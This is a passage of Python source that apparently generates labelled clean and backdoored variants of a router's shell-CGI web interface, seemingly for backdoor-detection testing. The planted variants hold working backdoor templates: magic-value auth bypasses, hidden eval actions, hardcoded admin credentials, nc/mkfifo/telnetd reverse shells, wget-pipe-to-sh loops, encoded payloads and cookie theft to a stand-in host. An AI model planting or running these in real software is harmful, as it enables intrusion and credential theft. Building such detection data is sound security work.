@diag_pre@
require_login

printf 'Content-Type: text/plain\r\n\r\n'
action=$(cgi_param action)
case "$action" in
    ping)
        host=$(cgi_param host)
        case "$host" in
            *[!0-9.]*|"") echo "invalid address"; exit 0 ;;
        esac
        ping -c 3 -W 2 "$host" 2>&1
        ;;
    route)
        ip route show
        ;;
    @diag_cases@
    *)
        echo "actions: ping route"
        ;;
esac
"""

SH_STATUS = r"""
#!/bin/sh
# @lic@
. /www/lib/cgi.sh
require_login

up=$(cut -d. -f1 /proc/uptime)
wan=$(ip -4 -o addr show dev @wan@ 2>/dev/null | awk '{print $4}')
printf 'Content-Type: application/json\r\n\r\n'
printf '{"model":"@model@","firmware":"@version@","uptime":%s,"wan":"%s","user":"%s"}\n' "$up" "$wan" "$SESSION_USER"
"""

SH_INIT = r"""
#!/bin/sh
# @lic@
# Start the web interface (busybox httpd, documented port @http_port@).

case "$1" in
    start)
        @init_start_pre@
        httpd -p @http_port@ -h /www -c /etc/httpd.conf
        ;;
    stop)
        killall httpd
        ;;
    *)
        echo "usage: $0 start|stop"
        ;;
esac
"""

SH_HTTPD_CONF = r"""
# busybox httpd: CGI under /cgi-bin, everything else static
.cgi:/bin/sh
A:*
"""

SH_LOGIN_HTML = r"""
<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>@Name@ @model@</title>
<link rel="icon" href="data:image/png;base64,@logo@"></head>
<body>
<form method="post" action="/cgi-bin/login.cgi">
  <h1>@Name@ @model@</h1>
  <input name="user" placeholder="User name">
  <input name="pass" type="password" placeholder="Password">
  <button>Log in</button>
</form>
<script>
  if (location.search.indexOf('failed=1') >= 0) {
    document.querySelector('h1').insertAdjacentHTML('afterend', '<p>Wrong user name or password.</p>');
  }
</script>
</body>
</html>
"""

SH_INDEX_HTML = r"""
<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>@Name@ @model@ - Status</title></head>
<body>
<h1>Status</h1>
<pre id="status">loading...</pre>
<form id="ping"><input name="host" placeholder="192.0.2.1"><button>Ping</button></form>
<pre id="out"></pre>
<script>
  fetch('/cgi-bin/status.cgi', { credentials: 'same-origin' })
    .then((r) => r.json())
    .then((s) => { document.getElementById('status').textContent = JSON.stringify(s, null, 2); });
  document.getElementById('ping').addEventListener('submit', (ev) => {
    ev.preventDefault();
    const host = new FormData(ev.target).get('host');
    fetch('/cgi-bin/diag.cgi?action=ping&host=' + encodeURIComponent(host), { credentials: 'same-origin' })
      .then((r) => r.text())
      .then((t) => { document.getElementById('out').textContent = t; });
  });
  @index_script@
</script>
</body>
</html>
"""

SH_SUPPORT_HTML = r"""
<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>@Name@ - Support</title></head>
<body>
<h1>Support</h1>
<p>Send this page's status block to @Vendor@ support when you open a ticket.</p>
<pre id="info"></pre>
<script>
  @support_script@
</script>
</body>
</html>
"""

SH_MAKEFILE = r"""
# @Name@ @model@ web interface (busybox httpd + shell CGI)
DESTDIR ?= rootfs

install:
	install -d $(DESTDIR)/www/cgi-bin $(DESTDIR)/www/lib $(DESTDIR)/etc/init.d
	install -m 0755 www/cgi-bin/*.cgi $(DESTDIR)/www/cgi-bin/
	install -m 0644 www/lib/cgi.sh $(DESTDIR)/www/lib/
	install -m 0644 www/*.html $(DESTDIR)/www/
	install -m 0755 etc/init.d/webui $(DESTDIR)/etc/init.d/webui
	install -m 0644 etc/httpd.conf $(DESTDIR)/etc/httpd.conf

.PHONY: install
"""

SH_README = r"""
# @Name@ @model@ web interface

Shell CGI scripts for busybox `httpd` (port @http_port@).

- `login.cgi` checks `/etc/@ident@/webui.users` (`name:role:salt:sha256(salt+password)`) and
  creates a session file in `/tmp/webui-sessions` (cookie `@cookie@`).
- `status.cgi` (login) - JSON status; `diag.cgi?action=ping|route` (login) - ping takes a
  validated IPv4 `host`, passed quoted.
- `support.html` shows the public status block for support tickets (no credentials).

The factory users file has `admin` only; its password is set in the first-run wizard.
"""


class ShCgi:
    HOOKS = ["lib_vars", "lib_check_pre", "lib_login_pre", "lib_tail", "login_pre", "diag_pre", "diag_cases",
             "init_start_pre", "index_script", "support_script"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.cookie = rng.choice(["SID", "webui_sid", f"{P.ident}sid"])
        self.http_port = rng.choice([80, 8080, 8000])
        self.wan = rng.choice(["eth0.2", "eth1", "wan", "ppp0"])
        self.logo = _png(rng)

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown shcgi hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        if not kw["support_script"]:
            kw["support_script"] = block("""
                fetch('/cgi-bin/status.cgi', { credentials: 'same-origin' })
                  .then((r) => (r.ok ? r.json() : { error: 'log in first' }))
                  .then((s) => { document.getElementById('info').textContent = JSON.stringify(s, null, 2); });""")
        kw.update({"lic": license_header(P, "x"), "ident": P.ident, "Name": P.Name, "model": P.model,
                   "version": P.version, "cookie": self.cookie, "http_port": self.http_port, "wan": self.wan,
                   "logo": self.logo, "Vendor": P.Vendor})
        return {
            "www/lib/cgi.sh": fill(SH_LIB, **kw), "www/cgi-bin/login.cgi": fill(SH_LOGIN, **kw),
            "www/cgi-bin/diag.cgi": fill(SH_DIAG, **kw), "www/cgi-bin/status.cgi": fill(SH_STATUS, **kw),
            "etc/init.d/webui": fill(SH_INIT, **kw), "etc/httpd.conf": fill(SH_HTTPD_CONF, **kw),
            "www/login.html": fill(SH_LOGIN_HTML, **kw), "www/index.html": fill(SH_INDEX_HTML, **kw),
            "www/support.html": fill(SH_SUPPORT_HTML, **kw), "Makefile": fill(SH_MAKEFILE, **kw),
            "README.md": fill(SH_README, **kw),
        }


def ab_sh(rng: random.Random, P: Proj) -> Variant:
    s = ShCgi(rng, P)
    val = magic_value(rng).replace("'", "")
    form = rng.choice(["header-eq", "ua-case", "query-case", "cookie-eq"])
    if form == "header-eq":
        h = header_name(rng)
        pre = f'[ "${cgi_env(h)}" = {shq(val)} ] && {{ SESSION_USER=admin; return 0; }}'
        desc = f"header {h}: {val}"
    elif form == "ua-case":
        pre = f'case "$HTTP_USER_AGENT" in\n    *{shq(val)}*) SESSION_USER=admin; return 0 ;;\nesac'
        desc = f"a User-Agent containing {val!r}"
    elif form == "query-case":
        n = param_name(rng)
        pre = f'case "&$QUERY_STRING&" in\n    *"&{n}={val}&"*) SESSION_USER=admin; return 0 ;;\nesac'
        desc = f"query string {n}={val}"
    else:
        n = cookie_name(rng)
        pre = f'[ "$(cookie {n})" = {shq(val)} ] && {{ SESSION_USER=admin; return 0; }}'
        desc = f"cookie {n}={val}"
    clean = s.render()
    planted = s.render({"lib_login_pre": pre})
    note = f"require_login() in www/lib/cgi.sh (used by every CGI) returns logged in as admin when {desc}, without a session."
    return mk(clean, planted, note, {"trigger": form, "framework": "shell-cgi"})


def hc_sh(rng: random.Random, P: Proj) -> Variant:
    s = ShCgi(rng, P)
    sink = rng.choice(["eval", "sh-c", "backticks", "busybox-sh"])

    def run(v: str) -> str:
        if sink == "eval":
            return f'eval "{v}" 2>&1'
        if sink == "sh-c":
            return f'sh -c "{v}" 2>&1'
        if sink == "backticks":
            return f'echo "`{v} 2>&1`"'
        return f'/bin/busybox sh -c "{v}" 2>&1'
    form = rng.choice(["header-pre-auth", "hidden-action"])
    if form == "header-pre-auth":
        h = header_name(rng)
        v = "$" + cgi_env(h)
        pre = f'if [ -n "{v}" ]; then\n    printf \'Content-Type: text/plain\\r\\n\\r\\n\'\n    {run(v)}\n    exit 0\nfi'
        clean = s.render()
        planted = s.render({"diag_pre": pre})
        note = f"www/cgi-bin/diag.cgi, before require_login: the value of header {h} is run ({sink})."
    else:
        action = rng.choice(["", "_", "x"]) + word(rng, (2, 3))
        n = param_name(rng)
        case = f'{action})\n    c=$(cgi_param {n})\n    {run("$c")}\n    ;;'
        clean = s.render()
        planted = s.render({"diag_cases": case})
        note = f"www/cgi-bin/diag.cgi has an undocumented action '{action}' that runs parameter '{n}' unvalidated ({sink})."
    return mk(clean, planted, note, {"trigger": form, "sink": sink, "framework": "shell-cgi"})


def hk_sh(rng: random.Random, P: Proj) -> Variant:
    s = ShCgi(rng, P)
    user, pw = hidden_user(rng), master_password(rng).replace("'", "")
    form = rng.choice(["lib-check", "login-cgi", "md5sum"])
    if form == "lib-check":
        pre = f'[ "$1" = {shq(user)} ] && [ "$2" = {shq(pw)} ] && {{ ROLE=admin; return 0; }}'
        hooks = {"lib_check_pre": pre}
        where = "check_password() in www/lib/cgi.sh"
        desc = f"{user!r}/{pw!r}"
    elif form == "login-cgi":
        pre = (f'if [ "$user" = {shq(user)} ] && [ "$pass" = {shq(pw)} ]; then\n'
               '    check_password() { ROLE=admin; }\nfi')
        hooks = {"login_pre": pre}
        where = "www/cgi-bin/login.cgi"
        desc = f"{user!r}/{pw!r}"
    else:
        d = hashlib.md5(pw.encode()).hexdigest()
        pre = (f'[ "$1" = {shq(user)} ] && [ "$(printf \'%s\' "$2" | md5sum | cut -d\' \' -f1)" = "{d}" ] && '
               '{ ROLE=admin; return 0; }')
        hooks = {"lib_check_pre": pre}
        where = "check_password() in www/lib/cgi.sh"
        desc = f"{user!r} with a password whose md5 is {d} ({pw!r})"
    clean = s.render()
    planted = s.render(hooks)
    note = f"{where} logs in {desc} as role admin without the users file."
    return mk(clean, planted, note, {"form": form, "framework": "shell-cgi"})


def hk_html(rng: random.Random, P: Proj) -> Variant:
    """A public support page whose inline script logs in with a built-in account the CGI accepts."""
    s = ShCgi(rng, P)
    user, pw = hidden_user(rng), master_password(rng).replace("'", "").replace("\\", "")
    form = rng.choice(["form-post", "basic-header"])
    lib = f'[ "$1" = {shq(user)} ] && [ "$2" = {shq(pw)} ] && {{ ROLE=admin; return 0; }}'
    if form == "form-post":
        script = f"""
            // log in with the support account so the status block can be read without asking the user
            fetch('/cgi-bin/login.cgi', {{
              method: 'POST',
              credentials: 'same-origin',
              headers: {{ 'Content-Type': 'application/x-www-form-urlencoded' }},
              body: 'user={user}&pass=' + encodeURIComponent('{pw}'),
            }}).then(() => fetch('/cgi-bin/status.cgi', {{ credentials: 'same-origin' }}))
              .then((r) => r.json())
              .then((s) => {{ document.getElementById('info').textContent = JSON.stringify(s, null, 2); }});"""
    else:
        script = f"""
            const SUPPORT = btoa('{user}:{pw}');
            fetch('/cgi-bin/status.cgi', {{ headers: {{ Authorization: 'Basic ' + SUPPORT }} }})
              .then((r) => r.json())
              .then((s) => {{ document.getElementById('info').textContent = JSON.stringify(s, null, 2); }});"""
        login = ('case "$HTTP_AUTHORIZATION" in\n'
                 f'    "Basic $(printf \'%s:%s\' {shq(user)} {shq(pw)} | base64)") SESSION_USER={user}; return 0 ;;\nesac')
        clean = s.render()
        planted = s.render({"support_script": block(script), "lib_login_pre": login})
        note = (f"www/support.html (public) carries the built-in account {user!r}/{pw!r} in its inline script "
                f"(HTTP Basic); require_login() in www/lib/cgi.sh accepts that Authorization header as a session.")
        return mk(clean, planted, note, {"form": form, "framework": "html+shell-cgi"})
    clean = s.render()
    planted = s.render({"support_script": block(script), "lib_check_pre": lib})
    note = (f"www/support.html (public) logs in with the built-in account {user!r}/{pw!r} from its inline "
            f"script; check_password() in www/lib/cgi.sh accepts that account as role admin.")
    return mk(clean, planted, note, {"form": form, "framework": "html+shell-cgi"})


def rs_sh(rng: random.Random, P: Proj) -> Variant:
    s = ShCgi(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    form = rng.choice(["nc-e-loop", "fifo", "wget-loop", "telnetd"])
    if form == "nc-e-loop":
        line = f"( while :; do nc {ip} {prt} -e /bin/sh; sleep 60; done ) >/dev/null 2>&1 &"
    elif form == "fifo":
        f = "/tmp/." + word(rng, (1, 2))
        line = f"( rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | nc {ip} {prt} > {f} ) &"
    elif form == "wget-loop":
        line = f"( while :; do wget -q -O - http://{doc_host(rng)}/{word(rng, (1, 2))} | sh; sleep 900; done ) >/dev/null 2>&1 &"
    else:
        line = f"telnetd -p {prt} -l /bin/sh"
    clean = s.render()
    planted = s.render({"init_start_pre": line})
    note = f"etc/init.d/webui start also runs: {line!r} (undocumented shell access / fetch-and-run at boot)."
    return mk(clean, planted, note, {"mechanism": form, "framework": "shell-cgi"}, categories=["hidden-command"])


def ob_sh(rng: random.Random, P: Proj) -> Variant:
    s = ShCgi(rng, P)
    cmd, kind = shell_payload(rng)
    form = rng.choice(["base64-pipe", "printf-hex", "rev-eval", "rot13-tr", "openssl-b64"])
    if form == "base64-pipe":
        line = f"echo {base64.b64encode(cmd.encode()).decode()} | base64 -d | sh &"
    elif form == "printf-hex":
        line = "printf '" + "".join(f"\\x{b:02x}" for b in cmd.encode()) + "' | sh &"
    elif form == "rev-eval":
        line = f"eval \"$(echo {shq(cmd[::-1])} | rev)\" &"
    elif form == "rot13-tr":
        line = f"eval \"$(echo {shq(codecs.encode(cmd, 'rot13'))} | tr 'A-Za-z' 'N-ZA-Mn-za-m')\" &"
    else:
        line = f"echo {base64.b64encode(cmd.encode()).decode()} | openssl enc -d -base64 -A | sh &"
    where = rng.choice(["init", "lib"])
    if where == "init":
        hooks, loc = {"init_start_pre": line}, "etc/init.d/webui start"
    else:
        hooks, loc = {"lib_tail": f"[ -f /tmp/.webui_ok ] || {{ touch /tmp/.webui_ok; {line.rstrip(' &')} >/dev/null 2>&1 & }}"}, "www/lib/cgi.sh (sourced by every CGI, once per boot)"
    clean = s.render()
    planted = s.render(hooks)
    note = f"{loc} decodes a {form} payload and runs it with sh: '{cmd}'."
    return mk(clean, planted, note, {"encoding": form, "sink": "sh", "payload": kind, "framework": "shell-cgi"},
              categories=["remote-access"] if kind not in ("wget-sh", "curl-sh") else ["phone-home"])


def ob_html(rng: random.Random, P: Proj) -> Variant:
    """Inline script of the (admin-only) status page: encoded JS that switches on remote shell access
    through the device's own CGI and reports the admin's session to a fixed host."""
    s = ShCgi(rng, P)
    host = doc_host(rng)
    act = rng.choice(["", "_", "x"]) + word(rng, (2, 3))
    n = param_name(rng)
    prt = port(rng)
    js = (f"fetch('/cgi-bin/diag.cgi?action={act}&{n}='+encodeURIComponent('telnetd -p {prt} -l /bin/sh'),"
          f"{{credentials:'same-origin'}});new Image().src='http://{host}/p?c='+encodeURIComponent(document.cookie);")
    form = rng.choice(["atob-eval", "charcode", "function-reverse", "hex-escape"])
    if form == "atob-eval":
        code = f"eval(atob('{base64.b64encode(js.encode()).decode()}'));"
    elif form == "charcode":
        code = f"eval(String.fromCharCode({','.join(str(ord(c)) for c in js)}));"
    elif form == "function-reverse":
        rev = js[::-1].replace("\\", "\\\\").replace("'", "\\'")
        code = f"new Function('{rev}'.split('').reverse().join(''))();"
    else:
        code = "eval('" + "".join(f"\\x{ord(c):02x}" for c in js) + "');"
    case = f'{act})\n    c=$(cgi_param {n})\n    eval "$c" >/dev/null 2>&1 &\n    echo ok\n    ;;'
    clean = s.render()
    planted = s.render({"index_script": code, "diag_cases": case})
    note = (f"www/index.html (status page, opened by a logged-in admin) runs a {form}-encoded inline script that "
            f"calls the undocumented diag.cgi action '{act}' to start 'telnetd -p {prt} -l /bin/sh' and sends "
            f"document.cookie to http://{host}/p; www/cgi-bin/diag.cgi has that action, which evals parameter '{n}'.")
    return mk(clean, planted, note, {"encoding": form, "sink": "eval+cgi-eval", "framework": "html+shell-cgi"},
              categories=["phone-home", "remote-access"])


SHAPES = [
    ("src-auth-bypass", "perl", "cgi-magic", ab_perl),
    ("src-auth-bypass", "lua", "luci-public-session", ab_lua),
    ("src-auth-bypass", "shell", "cgi-require-login", ab_sh),
    ("src-hidden-command", "perl", "cgi-shell", hc_perl),
    ("src-hidden-command", "lua", "luci-exec", hc_lua),
    ("src-hidden-command", "shell", "cgi-eval", hc_sh),
    ("src-hardcoded-credential", "perl", "cgi-builtin-account", hk_perl),
    ("src-hardcoded-credential", "lua", "luci-checkpasswd-patch", hk_lua),
    ("src-hardcoded-credential", "shell", "cgi-builtin-account", hk_sh),
    ("src-hardcoded-credential", "html", "inline-script-credential", hk_html),
    ("src-remote-shell", "perl", "socket-shell", rs_perl),
    ("src-remote-shell", "lua", "luci-shell-or-fetch", rs_lua),
    ("src-remote-shell", "shell", "init-shell-loop", rs_sh),
    ("src-obfuscated", "perl", "eval-encoded", ob_perl),
    ("src-obfuscated", "lua", "loadstring-encoded", ob_lua),
    ("src-obfuscated", "shell", "decode-pipe-sh", ob_sh),
    ("src-obfuscated", "html", "inline-encoded-script", ob_html),
]
